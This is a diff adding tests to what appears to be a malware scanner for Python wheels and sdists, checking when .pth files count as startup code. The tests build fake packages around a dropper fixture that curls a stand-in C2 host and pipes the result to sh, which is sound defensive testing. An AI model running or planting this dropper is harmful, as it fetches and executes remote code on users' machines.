@@ -1954,3 +1954,45 @@ def test_a_stale_bytecode_cache_in_an_sdist_is_quiet():
     result = analyze(art)
     assert not found(result, "analysis.bytecode")
     assert result.verdict == "clean", [(f.rule, f.severity) for f in result.findings]
+
+
+# -- site runs the .pth files at the top of site-packages only ------------------------------------
+
+_PTH_DROPPER = "import os; os.system('curl -s https://x.example-c2.net/p | sh')\n"
+
+
+def _wheel_members(files: dict[str, bytes]) -> Artifact:
+    members = tuple(Member(path=p, size=len(d), data=d) for p, d in files.items())
+    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=members)
+
+
+def test_a_pth_deep_inside_a_wheels_package_is_data_not_startup_code():
+    # PyTorch weights are often named *.pth: bytes that site never reads
+    weights = b"\x80\x02\x8a\x0alZ\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02}q\x00(X\x10\x00\x00\x00"
+    result = analyze(
+        _wheel_members(
+            {
+                "demo/__init__.py": b"",
+                "demo/weights/v0.1/alex.pth": weights,
+                "demo/hooks/evil.pth": _PTH_DROPPER.encode(),
+            }
+        )
+    )
+    assert not [f for f in result.findings if f.category in ("analysis", "install-time")]
+    assert result.verdict not in ("suspicious", "malicious")
+
+
+def test_a_pth_at_the_top_of_a_wheel_or_its_purelib_still_runs_at_startup():
+    for path in ("evil.pth", "demo-1.0.data/purelib/evil.pth"):
+        result = analyze(_wheel_members({"demo/__init__.py": b"", path: _PTH_DROPPER.encode()}))
+        assert result.verdict == "malicious", (path, result.findings)
+
+
+def test_a_pth_anywhere_in_an_sdist_counts_as_startup_code():
+    data = _PTH_DROPPER.encode()
+    members = (
+        Member(path="demo-1.0/setup.py", size=0, data=b""),
+        Member(path="demo-1.0/demo/hooks/evil.pth", size=len(data), data=data),
+    )
+    result = analyze(Artifact("demo-1.0.tar.gz", "sdist", "demo", "1.0", members=members))
+    assert result.verdict == "malicious", result.findings
